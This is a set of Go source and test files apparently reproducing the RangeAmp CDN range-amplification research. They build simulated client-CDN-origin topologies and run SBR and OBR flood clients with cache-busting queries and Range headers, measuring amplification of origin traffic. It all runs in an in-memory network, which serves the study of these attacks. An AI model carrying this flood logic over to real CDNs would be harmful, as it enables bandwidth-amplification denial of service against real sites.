	if err != nil {
		t.Fatal(err)
	}
	if res.Requests != 8 || res.Failures != 0 {
		t.Fatalf("flood result = %+v", res)
	}
	if conns := topo.OriginSeg.Conns(); conns != 1 {
		t.Errorf("cdn-origin connections = %d, want 1 (pooled)", conns)
	}
	if live := topo.OriginSeg.Live(); live != 1 {
		t.Errorf("pooled cdn-origin conns held open = %d, want 1", live)
	}

	topo.Close()
	if live := topo.OriginSeg.Live(); live != 0 {
		t.Errorf("cdn-origin conns live after Close = %d, want 0", live)
	}
	waitFor(t, "client conns to drain", func() bool { return topo.ClientSeg.Live() == 0 })
	waitFor(t, "goroutines to drain", func() bool { return runtime.NumGoroutine() <= before+2 })
}

func TestPoolIdleTimeoutReleasesConns(t *testing.T) {
	const size = 16 << 10
	now := time.Unix(1700000000, 0)
	clock := func() time.Time { return now }
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	topo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{
		OriginRangeSupport: true,
		UpstreamPool:       &cdn.PoolConfig{Size: 2, IdleTimeout: time.Minute, Now: clock},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	if _, err := RunSBR(topo, targetPath, size, "cb0"); err != nil {
		t.Fatal(err)
	}
	if live := topo.OriginSeg.Live(); live != 1 {
		t.Fatalf("pooled conns after request = %d, want 1", live)
	}
	now = now.Add(2 * time.Minute)
	if reaped := topo.Edge.ReapIdleUpstream(); reaped != 1 {
		t.Errorf("reaped = %d, want 1", reaped)
	}
	if live := topo.OriginSeg.Live(); live != 0 {
		t.Errorf("pooled conns after idle reap = %d, want 0", live)
	}
}

func TestPooledFloodMatchesPerRequestBytes(t *testing.T) {
	// Pooling changes the connection economy, not the HTTP bytes: the
	// same flood over a pooled topology must measure identical
	// per-segment response traffic.
	const size = 32 << 10
	run := func(pool *cdn.PoolConfig) (*FloodResult, int64) {
		store := resource.NewStore()
		store.AddSynthetic(targetPath, size, contentType)
		topo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{
			OriginRangeSupport: true,
			UpstreamPool:       pool,
		})
		if err != nil {
			t.Fatal(err)
		}
		defer topo.Close()
		res, err := RunSBRFloodKeepAlive(topo, targetPath, size, 1, 6)
		if err != nil {
			t.Fatal(err)
		}
		return res, topo.OriginSeg.Conns()
	}
	plain, plainConns := run(nil)
	pooled, pooledConns := run(&cdn.PoolConfig{Size: 2})
	if plain.Amplification != pooled.Amplification {
		t.Errorf("amplification differs: per-request %+v vs pooled %+v",
			plain.Amplification, pooled.Amplification)
	}
	if plainConns != 6 || pooledConns != 1 {
		t.Errorf("upstream conns = %d per-request / %d pooled, want 6 / 1", plainConns, pooledConns)
	}
}
