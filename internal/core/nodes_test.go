package core

import "testing"

func TestNodeTargeting(t *testing.T) {
	tab, shares, err := NodeTargeting(5, 20)
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 2 {
		t.Fatalf("%d rows", len(tab.Rows))
	}
	if shares["pinned"] != 1.0 {
		t.Errorf("pinned share = %.2f, want 1.0", shares["pinned"])
	}
	if shares["spread"] > 0.25 {
		t.Errorf("spread share = %.2f, want ~0.20", shares["spread"])
	}
}

func TestNodeTargetingValidation(t *testing.T) {
	if _, _, err := NodeTargeting(1, 10); err == nil {
		t.Error("single node accepted")
	}
	if _, _, err := NodeTargeting(5, 2); err == nil {
		t.Error("too few requests accepted")
	}
}
