package core

import (
	"context"
	"testing"

	"repro/internal/cluster"
)

func TestRunNodeStrategy(t *testing.T) {
	ctx := context.Background()
	pinned, err := RunNodeStrategy(ctx, NewRuntime(), "pinned", cluster.Pinned{Index: 0}, 5, 20)
	if err != nil {
		t.Fatal(err)
	}
	if pinned.Share != 1.0 {
		t.Errorf("pinned share = %.2f, want 1.0", pinned.Share)
	}
	if pinned.IdleNodes != 4 {
		t.Errorf("pinned idle nodes = %d, want 4", pinned.IdleNodes)
	}
	spread, err := RunNodeStrategy(ctx, NewRuntime(), "spread", &cluster.RoundRobin{}, 5, 20)
	if err != nil {
		t.Fatal(err)
	}
	if spread.Share > 0.25 {
		t.Errorf("spread share = %.2f, want ~0.20", spread.Share)
	}
	if spread.IdleNodes != 0 {
		t.Errorf("spread idle nodes = %d, want 0", spread.IdleNodes)
	}
}

func TestRunNodeStrategyValidation(t *testing.T) {
	ctx := context.Background()
	if _, err := RunNodeStrategy(ctx, NewRuntime(), "x", cluster.Pinned{}, 1, 10); err == nil {
		t.Error("single node accepted")
	}
	if _, err := RunNodeStrategy(ctx, NewRuntime(), "x", cluster.Pinned{}, 5, 2); err == nil {
		t.Error("too few requests accepted")
	}
}

func TestRunNodeStrategyCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := RunNodeStrategy(ctx, NewRuntime(), "x", cluster.Pinned{}, 5, 20); err == nil {
		t.Error("cancelled context accepted")
	}
}
