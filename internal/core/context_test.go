package core

import (
	"context"
	"errors"
	"sync/atomic"
	"testing"

	"repro/internal/metrics"
	"repro/internal/resource"
	"repro/internal/vendor"
)

// TestSBRMetricsDeltaMatchesAmplification is the golden accounting
// check: because Segment mirrors the same additions into the registry
// that Probe diffs, a run's metrics delta must reproduce its
// Amplification fields bit-for-bit.
func TestSBRMetricsDeltaMatchesAmplification(t *testing.T) {
	for _, prof := range []*vendor.Profile{vendor.Cloudflare(), vendor.KeyCDN()} {
		t.Run(prof.Name, func(t *testing.T) {
			const size = 512 << 10
			rt := NewRuntime()
			store := resource.NewStore()
			store.AddSynthetic(targetPath, size, contentType)
			topo, err := NewSBRTopology(prof, store, SBROptions{OriginRangeSupport: true, Runtime: rt})
			if err != nil {
				t.Fatal(err)
			}
			defer topo.Close()
			if err := PrimeSizeHint(topo, targetPath); err != nil {
				t.Fatal(err)
			}

			before := rt.Metrics.Snapshot()
			res, err := RunSBR(topo, targetPath, size, "golden")
			if err != nil {
				t.Fatal(err)
			}
			d := rt.Metrics.Snapshot().Delta(before)

			victim := d.Value("netsim_segment_bytes_total",
				metrics.L("segment", "cdn-origin"), metrics.L("direction", "down"))
			attacker := d.Value("netsim_segment_bytes_total",
				metrics.L("segment", "client-cdn"), metrics.L("direction", "down"))
			if victim != res.Amplification.VictimBytes {
				t.Errorf("cdn-origin down delta = %d, want VictimBytes %d",
					victim, res.Amplification.VictimBytes)
			}
			if attacker != res.Amplification.AttackerBytes {
				t.Errorf("client-cdn down delta = %d, want AttackerBytes %d",
					attacker, res.Amplification.AttackerBytes)
			}
			wantReqs := int64(SBRExploit(prof.Name, size).Repeat)
			if got := d.Value("cdn_requests_total", metrics.L("vendor", prof.Name)); got != wantReqs {
				t.Errorf("cdn_requests_total delta = %d, want %d", got, wantReqs)
			}
		})
	}
}

func TestRunSBRContextCancelled(t *testing.T) {
	const size = 64 << 10
	rt := NewRuntime()
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	topo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{OriginRangeSupport: true, Runtime: rt})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	before := rt.Metrics.Snapshot()
	if _, err := RunSBRContext(ctx, topo, targetPath, size, "cancelled"); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	d := rt.Metrics.Snapshot().Delta(before)
	if got := d.Value("cdn_requests_total", metrics.L("vendor", "cloudflare")); got != 0 {
		t.Errorf("cancelled run reached the edge %d times", got)
	}
	if got := d.Value("netsim_segment_bytes_total",
		metrics.L("segment", "client-cdn"), metrics.L("direction", "up")); got != 0 {
		t.Errorf("cancelled run sent %d bytes", got)
	}
}

func TestRunOBRContextCancelled(t *testing.T) {
	store := resource.NewStore()
	store.AddSynthetic(targetPath, 1<<10, contentType)
	topo, err := NewOBRTopology(vendor.Cloudflare(), vendor.CloudFront(), store)
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := RunOBRContext(ctx, topo, targetPath, 0); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

// cancelAfter is a context whose Err flips to Canceled after a fixed
// number of nil answers, making mid-flood cancellation deterministic:
// the flood workers poll Err exactly once per request, so exactly
// `remaining` requests are sent.
type cancelAfter struct {
	context.Context
	remaining atomic.Int64
}

func newCancelAfter(n int64) *cancelAfter {
	c := &cancelAfter{Context: context.Background()}
	c.remaining.Store(n)
	return c
}

func (c *cancelAfter) Err() error {
	if c.remaining.Add(-1) < 0 {
		return context.Canceled
	}
	return nil
}

func TestRunSBRFloodContextCancelMidway(t *testing.T) {
	const size = 64 << 10
	rt := NewRuntime()
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	topo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{OriginRangeSupport: true, Runtime: rt})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	const workers, perWorker, allow = 4, 50, 17
	ctx := newCancelAfter(allow)
	before := rt.Metrics.Snapshot()
	_, err = RunSBRFloodContext(ctx, topo, targetPath, size, workers, perWorker)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	d := rt.Metrics.Snapshot().Delta(before)
	got := d.Value("cdn_requests_total", metrics.L("vendor", "cloudflare"))
	if got != allow {
		t.Errorf("edge handled %d requests after cancellation at %d", got, allow)
	}
	if conns := d.Value("netsim_conns_opened_total", metrics.L("segment", "client-cdn")); conns != allow {
		t.Errorf("client-cdn opened %d conns, want %d", conns, allow)
	}
}

func TestRunSBRFloodContextCancelledBeforeStart(t *testing.T) {
	const size = 64 << 10
	rt := NewRuntime()
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	topo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{OriginRangeSupport: true, Runtime: rt})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	before := rt.Metrics.Snapshot()
	if _, err := RunSBRFloodContext(ctx, topo, targetPath, size, 4, 10); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	d := rt.Metrics.Snapshot().Delta(before)
	if got := d.Value("cdn_requests_total", metrics.L("vendor", "cloudflare")); got != 0 {
		t.Errorf("pre-cancelled flood reached the edge %d times", got)
	}
}
