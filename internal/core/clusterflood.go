package core

import (
	"context"
	"fmt"
	"math/rand"
	"sync"
	"time"

	"repro/internal/cluster"
	"repro/internal/httpwire"
	"repro/internal/measure"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/resource"
	"repro/internal/vendor"
	"repro/internal/vtime"
)

// ClusterFloodOptions shape a flood against a multi-node edge cluster:
// the §VI-A scenario where attackers spread across ingress PoPs, each
// PoP with its own cache and its own uplink to the shared origin.
type ClusterFloodOptions struct {
	// Vendor is the edge profile on every node. Nil means Cloudflare.
	Vendor *vendor.Profile

	// Nodes is the PoP count. Zero means 4.
	Nodes int

	// Workers total attacker clients; worker w pins to node w % Nodes.
	// PerWorker requests each, unique cache-busting queries throughout.
	Workers   int
	PerWorker int

	// KeepAlive gives each worker one persistent session to its node.
	KeepAlive bool

	// ResourceSize is the attacked object's size. Zero means 1 MiB.
	ResourceSize int64

	// Engine and VTime select and tune the execution engine, exactly as
	// in FloodOptions.
	Engine Engine
	VTime  VTimeOptions
}

// ClusterFloodResult aggregates the flood across all PoPs.
type ClusterFloodResult struct {
	Requests, Failures, Blocked int
	Dials                       int64

	// Amplification sums every PoP: victim bytes are the origin's
	// aggregate down-traffic across all node uplinks, attacker bytes the
	// aggregate attacker-side down-traffic.
	Amplification measure.Amplification

	// Concentration is the busiest node's share of upstream load.
	Concentration float64

	PerNode []cluster.NodeTraffic

	// VirtualDuration is the simulated span (vtime engine only).
	VirtualDuration time.Duration
}

// clusterShape identifies a worker's request-shape class in a cluster
// flood: the node it pins to (distinct segments and cache state) and
// the digit count of its index (distinct target lengths).
type clusterShape struct{ node, digits int }

// RunClusterFlood floods a freshly built nodeCount-PoP cluster backed
// by one origin and reports the aggregate amplification plus per-node
// load. The cluster reports into rt's registry; ctx cancellation is
// honoured between requests (pipe) or between events (vtime).
func RunClusterFlood(ctx context.Context, rt *Runtime, opts ClusterFloodOptions) (*ClusterFloodResult, error) {
	profile := opts.Vendor
	if profile == nil {
		profile = vendor.Cloudflare()
	}
	nodes := opts.Nodes
	if nodes <= 0 {
		nodes = 4
	}
	size := opts.ResourceSize
	if size <= 0 {
		size = MiB
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	env := rt.effective()
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	osrv := origin.NewServer(store, origin.Config{RangeSupport: true, Trace: env.Trace, Metrics: env.Metrics})
	net := netsim.NewNetwork()
	originL, err := net.Listen(originAddr)
	if err != nil {
		return nil, err
	}
	defer originL.Close()
	go osrv.Serve(originL)

	c, err := cluster.New(cluster.Config{
		Name:         "edge",
		Profile:      profile,
		Network:      net,
		UpstreamAddr: originAddr,
		NodeCount:    nodes,
		Metrics:      env.Metrics,
	})
	if err != nil {
		return nil, err
	}
	defer c.Close()

	exploit := SBRExploit(profile.Name, size)
	if exploit.Repeat < 1 {
		exploit.Repeat = 1
	}

	var (
		counts  floodCounts
		virtual time.Duration
	)
	if opts.Engine == EngineVTime {
		virtual, err = runClusterFloodVTime(ctx, net, c, exploit, opts, &counts)
	} else {
		err = runClusterFloodPipe(ctx, net, c, exploit, opts, &counts)
	}
	if err != nil {
		return nil, err
	}
	if counts.firstErr != nil {
		return nil, fmt.Errorf("cluster flood: %d failures, first: %w", counts.failures, counts.firstErr)
	}

	res := &ClusterFloodResult{
		Requests:        counts.requests,
		Failures:        counts.failures,
		Blocked:         counts.blocked,
		Dials:           counts.dials,
		Concentration:   c.Concentration(),
		PerNode:         c.TrafficByNode(),
		VirtualDuration: virtual,
	}
	for _, nt := range res.PerNode {
		res.Amplification.VictimBytes += nt.Upstream.Down
		res.Amplification.AttackerBytes += nt.Client.Down
	}
	return res, nil
}

// clusterWorker runs one real worker against its node, mirroring the
// SBR flood worker body. When tmpl is non-nil it also calibrates: every
// request's client+upstream segment footprint is recorded for replay.
func clusterWorker(ctx context.Context, net *netsim.Network, node *cluster.Node, w int, exploit SBRCase, opts ClusterFloodOptions, c *floodCounts, mu *sync.Mutex, tmpl *vtime.Template) {
	segs := []*netsim.Segment{node.UpstreamSeg, node.ClientSeg}
	var session *origin.Client
	if opts.KeepAlive {
		session = origin.NewClient(net, node.Addr, node.ClientSeg)
		defer func() {
			st := session.Stats()
			var before []netsim.Snapshot
			if tmpl != nil {
				before = snapAll(segs)
			}
			session.Close()
			if tmpl != nil {
				tmpl.Close = deltasSince(segs, before)
				tmpl.Dials = st.Dials
			}
			mu.Lock()
			c.dials += st.Dials
			mu.Unlock()
		}()
	}
	for i := 0; i < opts.PerWorker; i++ {
		target := fmt.Sprintf("%s?cb=w%d-%d", targetPath, w, i)
		for r := 0; r < exploit.Repeat; r++ {
			if ctx.Err() != nil {
				return
			}
			req := NewAttackRequest(target)
			req.Headers.Add("Range", exploit.RangeHeader)
			var before []netsim.Snapshot
			if tmpl != nil {
				before = snapAll(segs)
			}
			var (
				resp *httpwire.Response
				err  error
			)
			if session != nil {
				resp, err = session.Do(req)
			} else {
				resp, err = origin.Fetch(net, node.Addr, node.ClientSeg, req)
			}
			mu.Lock()
			blocked, failed := c.note(resp, err)
			if session == nil {
				c.dials++
			}
			mu.Unlock()
			if tmpl != nil {
				tmpl.Reqs = append(tmpl.Reqs, vtime.ReqSample{
					Hops:    deltasSince(segs, before),
					Blocked: blocked,
					Failed:  failed,
				})
			}
		}
	}
	if tmpl != nil && session == nil {
		tmpl.Close = make([]vtime.Delta, len(segs))
		tmpl.Dials = int64(opts.PerWorker) * int64(exploit.Repeat)
	}
}

func runClusterFloodPipe(ctx context.Context, net *netsim.Network, c *cluster.Cluster, exploit SBRCase, opts ClusterFloodOptions, counts *floodCounts) error {
	var (
		wg sync.WaitGroup
		mu sync.Mutex
	)
	for w := 0; w < opts.Workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			clusterWorker(ctx, net, c.Nodes[w%len(c.Nodes)], w, exploit, opts, counts, &mu, nil)
		}(w)
	}
	wg.Wait()
	if err := ctx.Err(); err != nil {
		return fmt.Errorf("cluster flood: cancelled after %d requests: %w", counts.requests, err)
	}
	return nil
}

func runClusterFloodVTime(ctx context.Context, net *netsim.Network, c *cluster.Cluster, exploit SBRCase, opts ClusterFloodOptions, counts *floodCounts) (time.Duration, error) {
	sched := opts.VTime.Sched
	if sched == nil {
		sched = vtime.NewScheduler()
	}
	// Each PoP has its own uplink, its own attacker-side hop, and so
	// its own replay path over its own segment batches.
	rep := vtime.NewReplay(sched)
	nodePaths := make([]int, len(c.Nodes))
	for i, node := range c.Nodes {
		nodePaths[i] = rep.AddPath([]vtime.Hop{
			{Seg: vtime.NewSegmentBatch(sched, node.UpstreamSeg), Link: vtime.NewSharedLink(sched, opts.VTime.Upstream)},
			{Seg: vtime.NewSegmentBatch(sched, node.ClientSeg), Link: vtime.NewSharedLink(sched, opts.VTime.Client)},
		})
	}

	var (
		mu        sync.Mutex // uncontended: calibration is serial
		templates = map[clusterShape]int{}
		calCount  = map[clusterShape]int{}
	)
	for w := 0; w < opts.Workers; w++ {
		key := clusterShape{node: w % len(c.Nodes), digits: shapeOf(w)}
		if calCount[key] >= calPerShape {
			continue
		}
		calCount[key]++
		tmpl := &vtime.Template{}
		clusterWorker(ctx, net, c.Nodes[key.node], w, exploit, opts, counts, &mu, tmpl)
		if err := ctx.Err(); err != nil {
			return 0, fmt.Errorf("cluster flood: cancelled after %d requests: %w", counts.requests, err)
		}
		templates[key] = rep.AddTemplate(tmpl)
	}

	ramp := opts.VTime.Ramp
	if ramp <= 0 {
		ramp = time.Second
	}
	rng := rand.New(rand.NewSource(opts.VTime.Seed))
	seen := map[clusterShape]int{}
	for w := 0; w < opts.Workers; w++ {
		start := arrival(rng, ramp)
		key := clusterShape{node: w % len(c.Nodes), digits: shapeOf(w)}
		if seen[key] < calPerShape {
			seen[key]++
			continue
		}
		rep.AddClient(start, templates[key], nodePaths[key.node])
	}
	err := rep.Run(ctx)
	counts.merge(rep.Counts)
	if err != nil {
		return 0, fmt.Errorf("cluster flood: cancelled after %d requests: %w", counts.requests, err)
	}
	return sched.Elapsed(), nil
}
