package core

import (
	"context"
	"os"
	"testing"
	"time"
)

// TestVTimeFloodMillion is the tentpole target: a million keep-alive
// clients against a multi-edge topology, finished in seconds of wall
// time, deterministic across reruns for a fixed seed. Under the race
// detector the population scales down (the point there is instrumented
// coverage of the event loop, not throughput).
func TestVTimeFloodMillion(t *testing.T) {
	if testing.Short() {
		t.Skip("million-client smoke skipped in -short")
	}
	workers := 1_000_000
	if raceEnabled {
		workers = 20_000
	}
	run := func() *ClusterFloodResult {
		start := time.Now()
		res, err := RunClusterFlood(context.Background(), nil, ClusterFloodOptions{
			Nodes:        4,
			Workers:      workers,
			PerWorker:    1,
			KeepAlive:    true,
			ResourceSize: MiB,
			Engine:       EngineVTime,
			VTime:        VTimeOptions{Seed: 1},
		})
		if err != nil {
			t.Fatal(err)
		}
		if wall := time.Since(start); wall > 60*time.Second {
			t.Fatalf("flood took %v, want < 60s", wall)
		}
		return res
	}
	res := run()
	if res.Requests != workers {
		t.Fatalf("requests = %d, want %d", res.Requests, workers)
	}
	if res.Failures != 0 || res.Blocked != 0 {
		t.Fatalf("result = %+v", res)
	}
	if res.Dials != int64(workers) {
		t.Errorf("dials = %d, want one keep-alive session per client", res.Dials)
	}
	// One full resource per request crossed the origin uplinks.
	if want := int64(workers) * MiB; res.Amplification.VictimBytes < want {
		t.Errorf("origin bytes = %d, want >= %d", res.Amplification.VictimBytes, want)
	}
	if f := res.Amplification.Factor(); f < 100 {
		t.Errorf("aggregate factor = %.1f", f)
	}
	if res.VirtualDuration <= 0 {
		t.Errorf("virtual duration = %v", res.VirtualDuration)
	}

	// Same seed, fresh topology: byte-identical in every quantity.
	again := run()
	if res.Amplification != again.Amplification || res.VirtualDuration != again.VirtualDuration ||
		res.Requests != again.Requests || res.Dials != again.Dials {
		t.Errorf("rerun diverged:\n  first  %+v\n  second %+v", res, again)
	}
	for i := range res.PerNode {
		if res.PerNode[i] != again.PerNode[i] {
			t.Errorf("node %d diverged across reruns", i)
		}
	}
}

// TestVTimeFlood10M is the allocation-free event core's tentpole: ten
// million keep-alive clients, still under the vtime-smoke wall budget,
// still byte-identical across seed-repeated runs. It opts in via
// RANGEAMP_VTIME_10M=1 (the vtime-smoke make target sets it) so plain
// `go test ./...` stays light; under the race detector the population
// scales down like the million-client smoke.
func TestVTimeFlood10M(t *testing.T) {
	if os.Getenv("RANGEAMP_VTIME_10M") == "" {
		t.Skip("10M-client smoke opts in via RANGEAMP_VTIME_10M=1")
	}
	workers := 10_000_000
	if raceEnabled {
		workers = 50_000
	}
	run := func() *ClusterFloodResult {
		start := time.Now()
		res, err := RunClusterFlood(context.Background(), nil, ClusterFloodOptions{
			Nodes:        4,
			Workers:      workers,
			PerWorker:    1,
			KeepAlive:    true,
			ResourceSize: MiB,
			Engine:       EngineVTime,
			VTime:        VTimeOptions{Seed: 1},
		})
		if err != nil {
			t.Fatal(err)
		}
		if wall := time.Since(start); wall > 60*time.Second {
			t.Fatalf("flood took %v, want < 60s", wall)
		}
		return res
	}
	res := run()
	if res.Requests != workers {
		t.Fatalf("requests = %d, want %d", res.Requests, workers)
	}
	if res.Failures != 0 || res.Blocked != 0 {
		t.Fatalf("result = %+v", res)
	}
	if res.Dials != int64(workers) {
		t.Errorf("dials = %d, want one keep-alive session per client", res.Dials)
	}
	if want := int64(workers) * MiB; res.Amplification.VictimBytes < want {
		t.Errorf("origin bytes = %d, want >= %d", res.Amplification.VictimBytes, want)
	}
	if f := res.Amplification.Factor(); f < 100 {
		t.Errorf("aggregate factor = %.1f", f)
	}

	again := run()
	if res.Amplification != again.Amplification || res.VirtualDuration != again.VirtualDuration ||
		res.Requests != again.Requests || res.Dials != again.Dials {
		t.Errorf("rerun diverged:\n  first  %+v\n  second %+v", res, again)
	}
	for i := range res.PerNode {
		if res.PerNode[i] != again.PerNode[i] {
			t.Errorf("node %d diverged across reruns", i)
		}
	}
}
