// Package core is the paper's contribution assembled: RangeAmp attack
// topologies (Fig 3), the SBR and OBR attack clients (Figs 4 and 5),
// and the experiment runners that regenerate the evaluation's tables
// and figures (§V).
package core

import (
	"fmt"

	"repro/internal/cdn"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/resource"
	"repro/internal/trace"
	"repro/internal/vendor"
)

// Addresses used by the in-memory topologies.
const (
	originAddr = "origin.internal:80"
	edgeAddr   = "edge.cdn:80"
	bcdnAddr   = "ingress.bcdn:80"
	fcdnAddr   = "ingress.fcdn:80"

	// AttackHost is the Host header the attack clients send.
	AttackHost = "victim.example.com"
)

// SBRTopology is the Fig 3a topology: client -> CDN -> origin server.
type SBRTopology struct {
	Net     *netsim.Network
	Store   *resource.Store
	Origin  *origin.Server
	Edge    *cdn.Edge
	Profile *vendor.Profile

	// ClientSeg carries client<->CDN traffic, OriginSeg cdn<->origin.
	ClientSeg *netsim.Segment
	OriginSeg *netsim.Segment

	// Trace is the tracer every node of the topology reports spans to
	// (the attack runners root their client spans here too).
	Trace *trace.Tracer

	EdgeAddr  string
	listeners []*netsim.Listener
}

// SBROptions tune the topology.
type SBROptions struct {
	OriginRangeSupport bool // default true (the SBR origin supports ranges)
	DisableEdgeCache   bool
	// Runtime is the per-run environment the topology's registry series,
	// spans and fallback store resolve against. Nil means the
	// process-wide defaults (the historical behaviour).
	Runtime *Runtime
	// Trace is the span sink shared by attacker, edge and origin; nil
	// defers to Runtime.Trace (and ultimately the default tracer,
	// disabled unless configured), so topologies pay nothing for tracing
	// until someone opts in.
	Trace *trace.Tracer

	// UpstreamPool gives the edge persistent back-to-origin connections
	// (see cdn.PoolConfig). Nil keeps the per-request dial path the
	// paper's measurements assume, so every experiment default is
	// byte-identical with pooling compiled in.
	UpstreamPool *cdn.PoolConfig

	// CollapseMisses enables singleflight request collapsing on the
	// edge cache: concurrent misses on one key share one origin fetch.
	CollapseMisses bool
}

// NewSBRTopology stands up origin and edge servers for one profile.
// Callers must Close the topology.
func NewSBRTopology(profile *vendor.Profile, store *resource.Store, opts SBROptions) (*SBRTopology, error) {
	env := opts.Runtime.effective()
	if store == nil {
		store = env.Store
	}
	if store == nil {
		store = resource.NewStore()
	}
	tracer := opts.Trace
	if tracer == nil {
		tracer = env.Trace
	}
	t := &SBRTopology{
		Net:       netsim.NewNetwork(),
		Store:     store,
		Profile:   profile,
		ClientSeg: netsim.NewSegmentIn(env.Metrics, "client-cdn"),
		OriginSeg: netsim.NewSegmentIn(env.Metrics, "cdn-origin"),
		Trace:     tracer,
		EdgeAddr:  edgeAddr,
	}
	t.Origin = origin.NewServer(store, origin.Config{
		RangeSupport: opts.OriginRangeSupport,
		Trace:        tracer,
		Metrics:      env.Metrics,
		Now:          env.Now,
	})
	originL, err := t.Net.Listen(originAddr)
	if err != nil {
		return nil, fmt.Errorf("listen origin: %w", err)
	}
	go t.Origin.Serve(originL)
	t.listeners = append(t.listeners, originL)

	t.Edge, err = cdn.NewEdge(cdn.Config{
		Profile:      profile,
		Network:      t.Net,
		UpstreamAddr: originAddr,
		UpstreamSeg:  t.OriginSeg,
		DisableCache: opts.DisableEdgeCache,
		Trace:        tracer,
		UpstreamPool: opts.UpstreamPool,
		Collapse:     opts.CollapseMisses,
		Metrics:      env.Metrics,
	})
	if err != nil {
		t.Close()
		return nil, err
	}
	edgeL, err := t.Net.Listen(edgeAddr)
	if err != nil {
		t.Close()
		return nil, err
	}
	go t.Edge.Serve(edgeL)
	t.listeners = append(t.listeners, edgeL)
	return t, nil
}

// Close shuts the listeners down and drains the edge's upstream pool
// (a no-op when pooling is off).
func (t *SBRTopology) Close() {
	for _, l := range t.listeners {
		l.Close()
	}
	if t.Edge != nil {
		t.Edge.Close()
	}
}

// OBRTopology is the Fig 3b topology:
// client -> FCDN -> BCDN -> origin (range support disabled).
type OBRTopology struct {
	Net    *netsim.Network
	Store  *resource.Store
	Origin *origin.Server
	FCDN   *cdn.Edge
	BCDN   *cdn.Edge

	ClientSeg     *netsim.Segment // client <-> FCDN
	FcdnBcdnSeg   *netsim.Segment // FCDN <-> BCDN (the OBR victim segment)
	BcdnOriginSeg *netsim.Segment // BCDN <-> origin

	// Trace is the tracer shared by attacker, both edges and the origin,
	// so one OBR request yields a four-node span tree.
	Trace *trace.Tracer

	FCDNAddr  string
	listeners []*netsim.Listener
}

// OBROptions tune the OBR topology.
type OBROptions struct {
	// Runtime is the per-run environment the topology's registry series,
	// spans and fallback store resolve against. Nil means the
	// process-wide defaults.
	Runtime *Runtime
	// Trace is the span sink shared by every node; nil defers to
	// Runtime.Trace (and ultimately the default tracer).
	Trace *trace.Tracer

	// UpstreamPool, when set, gives both edges persistent upstream
	// connections (FCDN->BCDN and BCDN->origin). Nil keeps the
	// per-request dial path the paper measures.
	UpstreamPool *cdn.PoolConfig

	// CollapseMisses enables request collapsing on the BCDN cache (the
	// FCDN does not cache, so the flag is inert there).
	CollapseMisses bool
}

// NewOBRTopology cascades fcdn in front of bcdn in front of a
// range-disabled origin, the attacker-controlled arrangement of §IV-C.
// The fcdn profile is put into its OBR-capable position (Cloudflare's
// Bypass rule) automatically.
func NewOBRTopology(fcdn, bcdn *vendor.Profile, store *resource.Store) (*OBRTopology, error) {
	return NewOBRTopologyOpts(fcdn, bcdn, store, OBROptions{})
}

// NewOBRTopologyOpts is NewOBRTopology with explicit options.
func NewOBRTopologyOpts(fcdn, bcdn *vendor.Profile, store *resource.Store, opts OBROptions) (*OBRTopology, error) {
	env := opts.Runtime.effective()
	if store == nil {
		store = env.Store
	}
	if store == nil {
		store = resource.NewStore()
	}
	tracer := opts.Trace
	if tracer == nil {
		tracer = env.Trace
	}
	if fcdn.Name == "cloudflare" {
		fcdn = fcdn.Clone()
		fcdn.Options.CloudflareBypass = true
	}
	t := &OBRTopology{
		Net:           netsim.NewNetwork(),
		Store:         store,
		ClientSeg:     netsim.NewSegmentIn(env.Metrics, "client-fcdn"),
		FcdnBcdnSeg:   netsim.NewSegmentIn(env.Metrics, "fcdn-bcdn"),
		BcdnOriginSeg: netsim.NewSegmentIn(env.Metrics, "bcdn-origin"),
		Trace:         tracer,
		FCDNAddr:      fcdnAddr,
	}
	// The attacker disables range support on their origin so it always
	// answers 200 with the full resource (§IV-C).
	t.Origin = origin.NewServer(store, origin.Config{
		RangeSupport: false,
		Trace:        tracer,
		Metrics:      env.Metrics,
		Now:          env.Now,
	})
	originL, err := t.Net.Listen(originAddr)
	if err != nil {
		return nil, fmt.Errorf("listen origin: %w", err)
	}
	go t.Origin.Serve(originL)
	t.listeners = append(t.listeners, originL)

	t.BCDN, err = cdn.NewEdge(cdn.Config{
		Profile:      bcdn,
		Network:      t.Net,
		UpstreamAddr: originAddr,
		UpstreamSeg:  t.BcdnOriginSeg,
		Trace:        tracer,
		UpstreamPool: opts.UpstreamPool,
		Collapse:     opts.CollapseMisses,
		Metrics:      env.Metrics,
	})
	if err != nil {
		t.Close()
		return nil, err
	}
	bcdnL, err := t.Net.Listen(bcdnAddr)
	if err != nil {
		t.Close()
		return nil, err
	}
	go t.BCDN.Serve(bcdnL)
	t.listeners = append(t.listeners, bcdnL)

	t.FCDN, err = cdn.NewEdge(cdn.Config{
		Profile:      fcdn,
		Network:      t.Net,
